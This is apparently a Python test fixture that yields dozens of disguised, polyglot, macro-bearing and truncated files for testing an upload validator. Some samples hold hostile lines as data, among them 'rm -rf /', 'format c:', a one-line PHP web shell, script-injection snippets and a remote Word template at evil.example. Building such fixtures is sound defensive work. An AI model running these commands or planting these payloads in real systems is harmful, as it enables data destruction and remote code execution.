"""Files that are not what may be sent, or not what their names tell."""

from collections.abc import Iterator

from tests.kernel.files import making

from .hostile import Hostile


def wrong_types() -> Iterator[Hostile]:
    """Yield more than sixty files that are not what may be sent, or not what their names tell."""
    yield from _programs()
    yield from _disguises()
    yield from _names()
    yield from _twofold()
    yield from _acting()
    yield from _broken()


def _programs() -> Iterator[Hostile]:
    """Programs and pages under their own names."""
    contents = {
        "outil.exe": b"MZ" + bytes(100),
        "outil.dll": b"MZ" + bytes(100),
        "outil.scr": b"MZ" + bytes(100),
        "outil.elf": b"\x7fELF" + bytes(100),
        "outil.sh": b"#!/bin/sh\nrm -rf /\n",
        "outil.bat": b"@echo off\r\nformat c:\r\n",
        "outil.cmd": b"@echo off\r\n",
        "outil.ps1": b"Remove-Item -Recurse\n",
        "outil.vbs": b'MsgBox "x"\n',
        "outil.js": b"alert(1)",
        "outil.mjs": b"alert(1)",
        "outil.wasm": b"\0asm\1\0\0\0",
        "outil.jar": making.archive({"META-INF/MANIFEST.MF": "Main-Class: X"}),
        "outil.apk": making.archive({"AndroidManifest.xml": b"\3\0"}),
        "outil.py": b"import os\n",
        "outil.php": b"<?php system($_GET['c']); ?>",
        "outil.phtml": b"<?php echo 1; ?>",
        "outil.jsp": b"<% out.println(1); %>",
        "outil.hta": b"<hta:application/>",
        "outil.lnk": b"L\0\0\0\1\x14\2\0" + bytes(60),
        "page.html": b"<html><script>alert(1)</script></html>",
        "page.xhtml": b"<html xmlns='http://www.w3.org/1999/xhtml'/>",
        "page.mhtml": b"MIME-Version: 1.0\r\n",
        "page.xml": b"<?xml version='1.0'?><x/>",
        "page.xsl": b"<xsl:stylesheet/>",
        "page.swf": b"FWS\x05" + bytes(40),
    }
    for name, content in contents.items():
        yield Hostile(name, name, content, "double")
    others = {
        "films.zip": making.archive({"a": b"a"}),
        "films.rar": b"Rar!\x1a\7\1\0" + bytes(40),
        "films.7z": b"7z\xbc\xaf\x27\x1c" + bytes(40),
        "films.tar": bytes(257) + b"ustar" + bytes(250),
        "films.gz": b"\x1f\x8b\x08" + bytes(30),
        "film.mp4": making.m4a(b"vide"),
        "film.avi": b"RIFF\x20\0\0\0AVI LIST" + bytes(20),
        "disque.iso": bytes(200),
        "base.sqlite3": b"SQLite format 3\0" + bytes(84),
        "lettre.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
        "budget.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
        "lettre.docm": making.office("docx"),
        "budget.xlsm": making.office("xlsx"),
        "lettre.rtf": b"{\\rtf1 x}",
        "photo.heic": b"\0\0\0\x18ftypheic" + bytes(40),
        "photo.tiff": b"II*\0" + bytes(40),
        "photo.bmp": b"BM" + bytes(60),
        "icone.ico": b"\0\0\1\0\1\0" + bytes(40),
        "police.ttf": b"\0\1\0\0" + bytes(40),
        "cle.pem": b"-----BEGIN PRIVATE KEY-----\n",
        "sans-fin": b"anything",
    }
    for name, content in others.items():
        yield Hostile(name, name, content, "type")


def _disguises() -> Iterator[Hostile]:
    """Contents under the name of another kind."""
    pdf, png, zipped = making.pdf(), making.image("PNG"), making.archive({"a": b"a"})
    contents = {
        "programme.pdf": b"MZ" + bytes(200),
        "programme.jpg": b"MZ" + bytes(200),
        "programme.mp3": b"\x7fELF" + bytes(200),
        "programme.docx": b"MZ" + bytes(200),
        "programme.txt": b"MZ\0\0" + bytes(200),
        "page.jpg": b"<html><script>alert(1)</script></html>",
        "page.pdf": b"<html><script>alert(1)</script></html>",
        "page.csv": b"<!DOCTYPE html><html></html>",
        "page.txt": b"\xef\xbb\xbf  <script>alert(1)</script>",
        "wide.txt": b"\xff\xfe" + "<script>alert(1)</script>".encode("utf-16-le"),
        "script.txt": b"#!/bin/sh\nrm -rf /\n",
        "php.csv": b"<?php system('x'); ?>",
        "late.txt": b"bonjour\n<script>alert(1)</script>\n",
        "data.csv": b"a;b\n" + bytes(range(256)),
        "image.pdf": png,
        "document.png": pdf,
        "archive.pdf": zipped,
        "archive.docx": zipped,
        "archive.odt": zipped,
        "classeur.docx": making.office("xlsx"),
        "lettre.xlsx": making.office("docx"),
        "lettre.ods": making.office("odt"),
        "classeur.odt": making.office("ods"),
        "lettre-ouverte.docx": making.office("odt"),
        "ancien.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
        "film.ogg": b"\0\0\0\x18ftypisom" + bytes(40),
        "son.wav": making.mp3(),
        "son.mp3": making.wav(),
        "sans-tete.pdf": b"\n\n" + pdf,
    }
    for name, content in contents.items():
        yield Hostile(f"disguised {name}", name, content, "mismatch")
    yield Hostile("sound as an image", "message.mp3", making.mp3(), "type", "image")
    yield Hostile("PDF as an image", "notice.pdf", pdf, "type", "image")
    yield Hostile("image as a sound", "plan.png", png, "type", "audio")
    yield Hostile("moving M4A", "film.m4a", making.m4a(b"vide"), "video")
    yield Hostile("moving WebM", "film.webm", making.weba(b"V_VP9"), "video")
    yield Hostile("moving Ogg", "film.ogg", making._page(b"\x80theora" + bytes(40)), "video")


def _names() -> Iterator[Hostile]:
    """Honest contents under names that deceive."""
    png, pdf = making.image("PNG"), making.pdf()
    for name in ("photo.php.png", "photo.exe.png", "photo.html.png", "photo.svg.png", "a.js.png"):
        yield Hostile(name, name, png, "double")
    for name in ("facture.pdf.exe", "facture.pdf .scr", "facture.PDF.JS", "facture.hta.pdf"):
        yield Hostile(name, name, pdf, "double")
    yield Hostile("backwards", "facture\u202efdp.exe", pdf, "double")


def _twofold() -> Iterator[Hostile]:
    """Files that are two at once."""
    zipped = making.archive({"x.class": b"x" * 50})
    png, jpeg, pdf = making.image("PNG"), making.image("JPEG"), making.pdf()
    yield Hostile("PNG and ZIP", "plan.png", png + zipped, "polyglot", "image")
    yield Hostile("JPEG and ZIP", "photo.jpg", jpeg + zipped, "polyglot", "image")
    yield Hostile("GIF and ZIP", "signe.gif", making.image("GIF") + zipped, "polyglot", "image")
    yield Hostile("PDF and ZIP", "notice.pdf", pdf + zipped, "polyglot")
    yield Hostile("MP3 and ZIP", "message.mp3", making.mp3() + zipped, "polyglot")
    yield Hostile("JPEG and PHP", "photo.jpg", jpeg + b"<?php system('x'); ?>", "polyglot", "image")
    yield Hostile(
        "GIF and HTML", "signe.gif", b"GIF89a/*<script>*/=1;alert(1)", "polyglot", "image"
    )
    commented = making.image("JPEG", comment=b"%PDF-1.7 inside")
    yield Hostile("JPEG and PDF", "photo.jpg", commented, "polyglot", "image")
    told = making.image("JPEG", comment=b"<script>alert(1)</script>")
    yield Hostile("script in a comment", "photo.jpg", told, "polyglot", "image")


def _acting() -> Iterator[Hostile]:
    """Documents that do something."""
    far = (
        '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" '
        'Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    types = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled"/></Types>'
    script = "<office:document><office:scripts><office:script/></office:scripts></office:document>"
    cases: dict[str, tuple[str, dict[str, bytes | str], str]] = {
        "macro": ("docx", {"word/vbaProject.bin": b"x"}, "macros"),
        "macro of a workbook": ("xlsx", {"xl/vbaProject.bin": b"x"}, "macros"),
        "macro of old": ("xlsx", {"xl/macrosheets/sheet1.xml": "<x/>"}, "macros"),
        "control": ("docx", {"word/activeX/activeX1.xml": "<x/>"}, "macros"),
        "declared macro": ("docx", {"[Content_Types].xml": types}, "macros"),
        "program inside": ("pptx", {"ppt/embeddings/oleObject1.bin": b"MZ"}, "macros"),
        "far template": ("docx", {"word/_rels/settings.xml.rels": far}, "remote"),
        "open macro": ("odt", {"Basic/Standard/x.xml": "<x/>"}, "macros"),
        "open script": ("ods", {"content.xml": script}, "macros"),
        "open Python": ("odt", {"Scripts/python/x.py": "x"}, "macros"),
    }
    for title, (kind, parts, code) in cases.items():
        yield Hostile(title, f"lettre.{kind}", making.with_parts(kind, parts), code)
    yield Hostile("locked PDF", "notice.pdf", making.locked_pdf(), "locked")


def _broken() -> Iterator[Hostile]:
    """Files that begin well."""
    halves = {
        name: content[: len(content) // 2]
        for name, content in making.honest().items()
        if not name.endswith((".txt", ".csv", ".weba", ".pdf", ".mp3", ".gif"))
    }
    for name, content in halves.items():
        yield Hostile(f"half of {name}", name, content, "damaged")
    yield Hostile("head of a PDF", "notice.pdf", b"%PDF-1.7\n" + bytes(300), "damaged")
    yield Hostile("head of an MP3", "message.mp3", b"ID3\4\0\0\0\0\0\0" + b"x" * 200, "damaged")
    yield Hostile("head of a GIF", "signe.gif", b"GIF89a" + bytes(5), "damaged", "image")
    yield Hostile("nothing", "notes.txt", b"", "empty")
